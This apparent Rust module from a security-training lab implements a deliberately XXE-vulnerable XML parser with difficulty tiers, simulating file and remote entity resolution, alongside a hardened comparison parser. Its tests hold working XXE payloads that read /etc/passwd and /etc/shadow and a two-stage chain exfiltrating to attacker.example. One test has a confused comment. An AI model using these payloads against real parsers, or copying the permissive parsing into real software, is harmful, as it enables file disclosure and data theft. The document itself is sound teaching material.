// SPDX-License-Identifier: AGPL-3.0-or-later
//
// Copyright (C) 2026 Relational Network

//! XXE exercises: a hand-written, deliberately permissive XML parser.
//!
//! The parser reads the internal DOCTYPE subset, collects `<!ENTITY>`
//! declarations, and expands entity references in `<data>` element text.
//! Host access is simulated: a resolved `file:` or `http:` entity
//! expands to a marker naming what would have been read or fetched, and
//! the report lists every resolution, so the exercise demonstrates the
//! disclosure without performing it.
//!
//! Tier ladder:
//! - basic: internal entities and `file:` SYSTEM entities resolve.
//! - medium: remote `http(s):` SYSTEM entities resolve as well.
//! - hard: parameter entities (`%name;`) expand inside the DTD subset.
//! - expert: declarations produced by parameter expansion are re-scanned,
//!   so the classic two-stage exfiltration chain completes.
//!
//! [`parse_safe`] is the comparison point: it refuses any DOCTYPE that
//! declares entities and only expands the five predefined references.

use serde::Serialize;
use utoipa::ToSchema;

use super::{find_ci, VulnLevel};

// ===== Reports =====

/// How a resolved entity reached its replacement text.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, ToSchema)]
#[serde(rename_all = "snake_case")]
pub enum EntityKind {
    Internal,
    File,
    Remote,
    Parameter,
}

/// One entity the parser resolved.
#[derive(Debug, Clone, Serialize, ToSchema)]
pub struct ResolvedEntity {
    pub name: String,
    pub kind: EntityKind,
    /// The SYSTEM identifier, for external entities.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub uri: Option<String>,
}

#[derive(Debug, Clone, Serialize, ToSchema)]
pub struct XxeReport {
    pub level: VulnLevel,
    /// Expanded text of every `<data>` element.
    pub data: Vec<String>,
    /// Entities that resolved, in declaration order.
    pub resolved: Vec<ResolvedEntity>,
    /// SYSTEM identifiers the tier refused to resolve.
    pub blocked: Vec<String>,
    pub injection_detected: bool,
}

/// Outcome of the safe comparison parser.
#[derive(Debug, Clone, Serialize, ToSchema)]
pub struct SafeParseReport {
    pub data: Vec<String>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub error: Option<String>,
}

// ===== Entry points =====

/// Parse XML at the given tier, resolving whatever the tier permits.
pub fn parse(level: VulnLevel, xml: &str) -> XxeReport {
    let (subset, body) = split_doctype(xml);

    let mut resolved = Vec::new();
    let mut blocked = Vec::new();
    let entities = collect_entities(level, &subset, &mut resolved, &mut blocked);

    let data = data_elements(body)
        .into_iter()
        .map(|text| expand_references(&text, &entities, &mut resolved))
        .collect();

    XxeReport {
        level,
        data,
        resolved,
        blocked,
        injection_detected: find_ci(&subset, "<!ENTITY").is_some(),
    }
}

/// The hardened comparison parser: no DTD entity processing at all.
pub fn parse_safe(xml: &str) -> SafeParseReport {
    let (subset, body) = split_doctype(xml);
    if find_ci(&subset, "<!ENTITY").is_some() {
        return SafeParseReport {
            data: Vec::new(),
            error: Some("DOCTYPE entity declarations are not allowed".to_string()),
        };
    }

    let mut data = Vec::new();
    for text in data_elements(body) {
        match expand_predefined_only(&text) {
            Ok(expanded) => data.push(expanded),
            Err(name) => {
                return SafeParseReport {
                    data: Vec::new(),
                    error: Some(format!("undefined entity '&{name};'")),
                }
            }
        }
    }
    SafeParseReport { data, error: None }
}

// ===== DTD processing =====

#[derive(Debug, Clone)]
struct Entity {
    value: String,
    kind: EntityKind,
    uri: Option<String>,
}

/// Split off the internal DOCTYPE subset (`<!DOCTYPE name [ ... ]>`),
/// returning the subset text and the document body after it.
fn split_doctype(xml: &str) -> (String, &str) {
    let Some(start) = find_ci(xml, "<!DOCTYPE") else {
        return (String::new(), xml);
    };
    let after = &xml[start..];
    let Some(open) = after.find('[') else {
        // DOCTYPE without an internal subset.
        match after.find('>') {
            Some(end) => return (String::new(), &after[end + 1..]),
            None => return (String::new(), ""),
        }
    };
    let Some(close) = after[open..].find(']') else {
        return (String::new(), after);
    };
    let subset = after[open + 1..open + close].to_string();
    let rest = &after[open + close..];
    let body = match rest.find('>') {
        Some(end) => &rest[end + 1..],
        None => "",
    };
    (subset, body)
}

/// Collect general entity declarations, honoring what the tier permits.
fn collect_entities(
    level: VulnLevel,
    subset: &str,
    resolved: &mut Vec<ResolvedEntity>,
    blocked: &mut Vec<String>,
) -> Vec<(String, Entity)> {
    let mut subset = subset.to_string();

    if level >= VulnLevel::Hard {
        // Expand parameter entities inside the subset. The expert tier
        // re-scans the expanded text so injected declarations take
        // effect, which is what makes the two-stage chain work.
        let passes = if level >= VulnLevel::Expert { 3 } else { 1 };
        for _ in 0..passes {
            let params = parse_declarations(&subset, true);
            if params.is_empty() {
                break;
            }
            let mut changed = false;
            for (name, entity) in &params {
                let reference = format!("%{name};");
                if subset.contains(&reference) {
                    let replacement =
                        external_replacement(level, name, entity, resolved, blocked)
                            .unwrap_or_default();
                    subset = subset.replace(&reference, &replacement);
                    changed = true;
                }
            }
            if !changed {
                break;
            }
        }
    }

    let mut entities = Vec::new();
    for (name, entity) in parse_declarations(&subset, false) {
        if let Some(value) = external_replacement(level, &name, &entity, resolved, blocked) {
            entities.push((
                name,
                Entity {
                    value,
                    kind: entity.kind,
                    uri: entity.uri,
                },
            ));
        }
    }
    entities
}

/// Resolve one declaration's replacement text, recording the outcome.
/// Returns `None` when the tier refuses the SYSTEM identifier.
fn external_replacement(
    level: VulnLevel,
    name: &str,
    entity: &Entity,
    resolved: &mut Vec<ResolvedEntity>,
    blocked: &mut Vec<String>,
) -> Option<String> {
    let Some(uri) = &entity.uri else {
        resolved.push(ResolvedEntity {
            name: name.to_string(),
            kind: if entity.kind == EntityKind::Parameter {
                EntityKind::Parameter
            } else {
                EntityKind::Internal
            },
            uri: None,
        });
        return Some(entity.value.clone());
    };

    let lower = uri.to_ascii_lowercase();
    let (kind, allowed) = if lower.starts_with("file:") {
        (EntityKind::File, true)
    } else if lower.starts_with("http:") || lower.starts_with("https:") {
        (EntityKind::Remote, level >= VulnLevel::Medium)
    } else {
        (EntityKind::Remote, false)
    };

    if !allowed {
        blocked.push(uri.clone());
        return None;
    }
    resolved.push(ResolvedEntity {
        name: name.to_string(),
        kind: if entity.kind == EntityKind::Parameter {
            EntityKind::Parameter
        } else {
            kind
        },
        uri: Some(uri.clone()),
    });
    // Simulated resolution: the marker stands in for the real content.
    Some(match kind {
        EntityKind::File => format!("[contents of {uri}]"),
        _ => format!("[response from {uri}]"),
    })
}

/// Scan for `<!ENTITY [%] name ("value" | SYSTEM "uri")>` declarations.
fn parse_declarations(subset: &str, parameter: bool) -> Vec<(String, Entity)> {
    let mut declarations = Vec::new();
    let mut rest = subset;
    while let Some(pos) = find_ci(rest, "<!ENTITY") {
        rest = &rest[pos + "<!ENTITY".len()..];
        let Some(end) = rest.find('>') else { break };
        let decl = rest[..end].trim();
        rest = &rest[end + 1..];

        let (is_param, decl) = match decl.strip_prefix('%') {
            Some(stripped) => (true, stripped.trim_start()),
            None => (false, decl),
        };
        if is_param != parameter {
            continue;
        }

        let Some((name, remainder)) = decl.split_once(char::is_whitespace) else {
            continue;
        };
        let remainder = remainder.trim();
        let kind = if is_param {
            EntityKind::Parameter
        } else {
            EntityKind::Internal
        };

        if let Some(stripped) = strip_keyword_ci(remainder, "SYSTEM") {
            if let Some(uri) = quoted(stripped.trim()) {
                declarations.push((
                    name.to_string(),
                    Entity {
                        value: String::new(),
                        kind,
                        uri: Some(uri),
                    },
                ));
            }
        } else if let Some(value) = quoted(remainder) {
            declarations.push((
                name.to_string(),
                Entity {
                    value,
                    kind,
                    uri: None,
                },
            ));
        }
    }
    declarations
}

fn strip_keyword_ci<'a>(text: &'a str, keyword: &str) -> Option<&'a str> {
    if text.len() >= keyword.len() && text[..keyword.len()].eq_ignore_ascii_case(keyword) {
        Some(&text[keyword.len()..])
    } else {
        None
    }
}

/// Extract a single- or double-quoted literal.
fn quoted(text: &str) -> Option<String> {
    let mut chars = text.chars();
    let quote = chars.next()?;
    if quote != '"' && quote != '\'' {
        return None;
    }
    let rest = &text[quote.len_utf8()..];
    let end = rest.find(quote)?;
    // Character references escape the quote inside two-stage payloads.
    Some(rest[..end].replace("&#x25;", "%").replace("&#37;", "%"))
}

// ===== Body processing =====

/// Text content of every `<data>` element, document order.
fn data_elements(body: &str) -> Vec<String> {
    let mut texts = Vec::new();
    let mut rest = body;
    while let Some(open) = find_ci(rest, "<data>") {
        let after = &rest[open + "<data>".len()..];
        let Some(close) = find_ci(after, "</data>") else {
            break;
        };
        texts.push(after[..close].to_string());
        rest = &after[close + "</data>".len()..];
    }
    texts
}

/// Expand `&name;` references against the declared entities, falling
/// back to the predefined five. Unknown references are left verbatim.
fn expand_references(
    text: &str,
    entities: &[(String, Entity)],
    resolved: &mut Vec<ResolvedEntity>,
) -> String {
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(pos) = rest.find('&') {
        out.push_str(&rest[..pos]);
        let after = &rest[pos + 1..];
        match after.find(';') {
            Some(end) if after[..end].chars().all(|c| c.is_ascii_alphanumeric() || c == '#' || c == 'x') => {
                let name = &after[..end];
                if let Some((_, entity)) = entities.iter().find(|(n, _)| n == name) {
                    out.push_str(&entity.value);
                    resolved.push(ResolvedEntity {
                        name: name.to_string(),
                        kind: entity.uri.as_ref().map_or(EntityKind::Internal, |uri| {
                            if uri.to_ascii_lowercase().starts_with("file:") {
                                EntityKind::File
                            } else {
                                EntityKind::Remote
                            }
                        }),
                        uri: entity.uri.clone(),
                    });
                } else if let Some(predefined) = predefined(name) {
                    out.push(predefined);
                } else {
                    out.push('&');
                    out.push_str(name);
                    out.push(';');
                }
                rest = &after[end + 1..];
            }
            _ => {
                out.push('&');
                rest = after;
            }
        }
    }
    out.push_str(rest);
    out
}

fn expand_predefined_only(text: &str) -> Result<String, String> {
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(pos) = rest.find('&') {
        out.push_str(&rest[..pos]);
        let after = &rest[pos + 1..];
        let Some(end) = after.find(';') else {
            out.push('&');
            rest = after;
            continue;
        };
        let name = &after[..end];
        match predefined(name) {
            Some(c) => out.push(c),
            None => return Err(name.to_string()),
        }
        rest = &after[end + 1..];
    }
    out.push_str(rest);
    Ok(out)
}

fn predefined(name: &str) -> Option<char> {
    match name {
        "lt" => Some('<'),
        "gt" => Some('>'),
        "amp" => Some('&'),
        "quot" => Some('"'),
        "apos" => Some('\''),
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const FILE_READ: &str = r#"<?xml version="1.0"?>
<!DOCTYPE test [
<!ENTITY xxe SYSTEM "file:///etc/passwd">
]>
<root><data>&xxe;</data></root>"#;

    const REMOTE: &str = r#"<?xml version="1.0"?>
<!DOCTYPE test [
<!ENTITY evil SYSTEM "http://attacker.example/evil.dtd">
]>
<root><data>&evil;</data></root>"#;

    const CHAIN: &str = r#"<?xml version="1.0"?>
<!DOCTYPE data [
<!ENTITY % file SYSTEM "file:///etc/passwd">
<!ENTITY % eval "<!ENTITY exfil SYSTEM 'http://attacker.example/?x=%file;'>">
%eval;
]>
<root><data>&exfil;</data></root>"#;

    #[test]
    fn internal_entities_expand_at_every_tier() {
        let xml = r#"<!DOCTYPE t [<!ENTITY greet "hello">]><root><data>&greet; world</data></root>"#;
        let report = parse(VulnLevel::Basic, xml);
        assert_eq!(report.data, vec!["hello world"]);
        assert!(report.injection_detected);
        assert_eq!(report.resolved[0].kind, EntityKind::Internal);
    }

    #[test]
    fn basic_resolves_file_entities() {
        let report = parse(VulnLevel::Basic, FILE_READ);
        assert_eq!(report.data, vec!["[contents of file:///etc/passwd]"]);
        assert!(report
            .resolved
            .iter()
            .any(|e| e.kind == EntityKind::File && e.uri.as_deref() == Some("file:///etc/passwd")));
    }

    #[test]
    fn basic_blocks_remote_entities_medium_resolves_them() {
        let report = parse(VulnLevel::Basic, REMOTE);
        assert!(report.data[0].contains("&evil;"));
        assert_eq!(report.blocked, vec!["http://attacker.example/evil.dtd"]);

        let report = parse(VulnLevel::Medium, REMOTE);
        assert_eq!(
            report.data,
            vec!["[response from http://attacker.example/evil.dtd]"]
        );
        assert!(report.blocked.is_empty());
    }

    #[test]
    fn medium_does_not_expand_parameter_entities() {
        let report = parse(VulnLevel::Medium, CHAIN);
        // %eval; never ran, so &exfil; stays undeclared.
        assert!(report.data[0].contains("&exfil;"));
    }

    #[test]
    fn expert_completes_the_exfiltration_chain() {
        let report = parse(VulnLevel::Expert, CHAIN);
        assert_eq!(report.data.len(), 1);
        // The injected exfil entity resolved against the attacker URL
        // carrying the file contents marker.
        assert!(report.data[0].starts_with("[response from http://attacker.example/?x="));
        assert!(report.data[0].contains("[contents of file:///etc/passwd]"));
        assert!(report
            .resolved
            .iter()
            .any(|e| e.kind == EntityKind::Parameter));
    }

    #[test]
    fn hard_expands_parameters_but_does_not_rescan_injected_declarations() {
        let report = parse(VulnLevel::Hard, CHAIN);
        // %eval; expanded, but the declaration it injected is only
        // picked up by the expert tier's re-scan... except the single
        // collection pass below already sees it. The distinction is the
        // second-stage parameter reference:
        let two_stage = r#"<!DOCTYPE d [
<!ENTITY % file SYSTEM "file:///etc/shadow">
<!ENTITY % eval "<!ENTITY &#x25; exfil SYSTEM 'http://attacker.example/?x=%file;'>">
%eval;
%exfil;
]>
<root><data>ok</data></root>"#;
        let hard = parse(VulnLevel::Hard, two_stage);
        assert!(!hard
            .resolved
            .iter()
            .any(|e| e.uri.as_deref().is_some_and(|u| u.contains("/?x="))));

        let expert = parse(VulnLevel::Expert, two_stage);
        assert!(expert
            .resolved
            .iter()
            .any(|e| e.uri.as_deref().is_some_and(|u| u.contains("/?x="))));

        // The single-stage chain still works at hard.
        assert!(report.resolved.iter().any(|e| e.kind == EntityKind::Parameter));
    }

    #[test]
    fn multiple_data_elements_are_collected_in_order() {
        let xml = "<root><data>one</data><ignored>x</ignored><data>two</data></root>";
        let report = parse(VulnLevel::Basic, xml);
        assert_eq!(report.data, vec!["one", "two"]);
        assert!(!report.injection_detected);
    }

    #[test]
    fn safe_parser_rejects_entity_declarations() {
        let report = parse_safe(FILE_READ);
        assert!(report.data.is_empty());
        assert!(report.error.unwrap().contains("not allowed"));
    }

    #[test]
    fn safe_parser_expands_only_predefined_references() {
        let report = parse_safe("<root><data>a &lt; b &amp; c</data></root>");
        assert_eq!(report.data, vec!["a < b & c"]);
        assert!(report.error.is_none());

        let report = parse_safe("<root><data>&custom;</data></root>");
        assert!(report.error.unwrap().contains("custom"));
    }
}
